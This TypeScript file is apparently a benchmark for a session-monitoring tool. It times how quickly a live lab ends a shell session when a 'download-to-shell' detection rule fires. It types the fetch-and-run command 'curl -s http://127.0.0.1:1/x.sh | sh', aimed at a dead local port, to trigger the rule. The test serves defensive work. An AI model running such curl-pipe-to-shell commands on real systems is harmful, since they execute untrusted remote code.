/**
 * From a command typed to its session ended, in a lab with real shells and the server as a process of its own: judged
 * from what our own client sends, and from the log that the node streams. `node bench/detections-live.ts`
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { setTimeout as wait } from 'node:timers/promises';
import { REGION } from '@sallyport/lab/accounts.ts';
import { type Lab, startLab } from '@sallyport/lab/up.ts';
import { NO_DELAY } from '@sallyport/local-aws/options.ts';
import { ApiClient } from '../src/cli/api-client.ts';
import { connectShell } from '../src/cli/connect.ts';
import { Output } from '../src/cli/output.ts';
import { ShownSender } from '../src/cli/shown-sender.ts';
import { percentile, report } from './parts/report.ts';

const ROUNDS = 10;
const OWN_CLIENT_MS = 1000;
const STREAMED_MS = 3000;
/** rules/linux/download-to-shell.yml */
const RULE = 'f79afee8-5db1-4686-a369-fce5602639b5';
const COMMAND = 'curl -s http://127.0.0.1:1/x.sh | sh';
const RELOAD_MS = 2500;
/** What a prompt of the lab's session document ends with. */
const PROMPT = '\u001b]133;B;';
const GIVE_UP_MS = 20_000;

type Key = { readonly accessKeyId: string; readonly secretAccessKey: string };

/** Opens a shell, types the command at its prompt, and gives how long its session lived on. */
async function typedToEndedMs(
  lab: Lab,
  how: {
    readonly person: Key;
    readonly target: string;
    readonly witness?: Parameters<typeof connectShell>[0]['witness'];
  },
): Promise<number> {
  const [stdin, stdout, stderr] = [new PassThrough(), new PassThrough(), new PassThrough()];
  stderr.resume();
  const prompted = new Promise<void>((resolve) => {
    let shown = '';
    stdout.on('data', (data: Buffer) => {
      shown += data.toString('latin1');
      if (shown.includes(PROMPT)) resolve();
    });
  });
  const done = connectShell({
    target: how.target,
    region: REGION,
    endpoint: lab.file.endpoint,
    credentials: async () => how.person,
    streams: { stdin, stdout, stderr },
    ...(how.witness === undefined ? {} : { witness: how.witness }),
  });
  await prompted;
  await wait(300);
  const from = performance.now();
  stdin.write(`${COMMAND}\r`);
  const late = new AbortController();
  const ended = await Promise.race([
    done.then(() => true),
    wait(GIVE_UP_MS, false, { signal: late.signal }).catch(() => false),
  ]);
  late.abort();
  const ms = ended ? performance.now() - from : Number.POSITIVE_INFINITY;
  if (!ended) stdin.write('\rexit\r');
  return ms;
}

function figure(name: string, samples: readonly number[], limit: number) {
  const title = `${name}, most of ${samples.length} (median ${Math.round(percentile(samples, 0.5))})`;
  return { name: title, value: Math.max(...samples), unit: 'ms', limit, bound: 'at most' as const };
}

/** Runs the bench; true when both figures are within their limits. */
export async function benchDetectionsLive(): Promise<boolean> {
  const dataDir = mkdtempSync(join(tmpdir(), 'sallyport-bench-'));
  const lab = await startLab(
    {
      ...{ dataDir, port: 0, tlsPort: 0, apiPort: 0 },
      ...{ iamPropagation: NO_DELAY, eventDelay: NO_DELAY, logDelay: NO_DELAY },
      requireSignedChannels: false,
      createSsmUser: false,
    },
    () => undefined,
  );
  process.env['AWS_CONFIG_FILE'] = lab.file.awsConfigFile;
  process.env['AWS_SHARED_CREDENTIALS_FILE'] = lab.file.awsCredentialsFile;
  const file = join(dataDir, 'server.json');
  const config = JSON.parse(readFileSync(file, 'utf8')) as { detections: object };
  const detections = {
    ...config.detections,
    clientStream: true,
    endOnStreamedText: true,
    responses: { [RULE]: 'terminate' },
  };
  writeFileSync(file, JSON.stringify({ ...config, terminationCapPerMinute: 1000, detections }));
  await wait(RELOAD_MS);
  const { seed } = JSON.parse(readFileSync(join(dataDir, 'seed.json'), 'utf8')) as {
    seed: { people: Record<string, Key> };
  };
  const person = seed.people['engineer']!;
  const target = lab.file.nodes.find(({ name }) => name === 'DevEC2Instance')!.id;
  const api = new ApiClient({
    api: lab.file.api,
    region: REGION,
    endpoint: lab.file.endpoint,
    profile: 'engineer',
    configFile: lab.file.awsConfigFile,
    credentialsFile: lab.file.awsCredentialsFile,
    output: new Output('json'),
  });
  const witness = (sessionId: string) => {
    const sender = new ShownSender((path, lines) => api.postLines(path, lines), sessionId);
    return (data: Uint8Array) => sender.output(data);
  };
  const [own, streamed]: [number[], number[]] = [[], []];
  for (let round = 0; round < ROUNDS; round += 1) {
    own.push(await typedToEndedMs(lab, { person, target, witness }));
    streamed.push(await typedToEndedMs(lab, { person, target }));
  }
  await lab.stop();
  rmSync(dataDir, { recursive: true, force: true });
  return report('a command that a rule ends its session for', [
    figure("typed to ended, from our own client's stream", own, OWN_CLIENT_MS),
    figure('typed to ended, from the streamed log', streamed, STREAMED_MS),
  ]);
}

if (import.meta.main) {
  const good = await benchDetectionsLive();
  process.exit(good ? 0 : 1);
}
